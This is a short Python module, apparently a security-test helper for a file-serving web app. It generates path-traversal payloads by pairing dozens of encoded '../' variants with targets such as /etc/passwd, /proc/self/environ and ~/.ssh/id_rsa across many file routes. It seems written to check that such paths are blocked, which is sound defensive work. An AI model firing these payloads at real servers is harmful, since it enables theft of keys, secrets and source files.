"""Paths: every form in which a path has been made to leave its folder, on every address that gives out files."""

from collections.abc import Iterator
from itertools import product

PREFIXES = (
    "/youju/", "/gradio_api/file=", "/file=", "/gradio_api/file/", "/file/", "/static/", "/assets/", "/theme.css?theme=", "/gradio_api/upload_progress?upload_id=",
    "/api/library/", "/clauses/", "/records/", "/",
)
_UPS = (
    "../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "%2e%2e%5c", "..%5c", "%252e%252e%252f", "..%252f", "....//", "....\\/", "..;/", ".%2e/", "%c0%ae%c0%ae/",
    "%uff0e%uff0e/", "．．/", "..%c0%af", "..%00/", "%2e%2e%00%2f", "..//", ".//..//", "%ef%bc%8e%ef%bc%8e%2f", "..%e2%88%95", "..%09/", "..%0d%0a/",
)  # fmt: skip
_KNOWN = (
    "/etc/passwd", "//etc/passwd", "///etc/passwd", "/%2fetc/passwd", "file:///etc/passwd", "file:%2f%2f/etc/passwd", "\\etc\\passwd", "C:\\Windows\\win.ini",
    "/proc/self/environ", "/proc/self/cwd/app.py", "/proc/self/fd/0", "/dev/stdin", "~/.ssh/id_rsa", "app.py%00.css", "icon.png/../../../app.py", "..", "%00",
)  # fmt: skip
_DEEP = (1, 3, 8)


def paths(secret: str) -> Iterator[str]:
    """The forms; ``secret``: a file outside, by its absolute path."""
    yield from _KNOWN
    yield secret
    for up, deep in product(_UPS, _DEEP):
        for target in ("etc/passwd", secret.lstrip("/"), "app.py"):
            yield up * deep + target


def addresses(secret: str) -> Iterator[str]:
    forms = list(dict.fromkeys(paths(secret)))
    yield from (prefix + form for prefix in PREFIXES for form in forms)
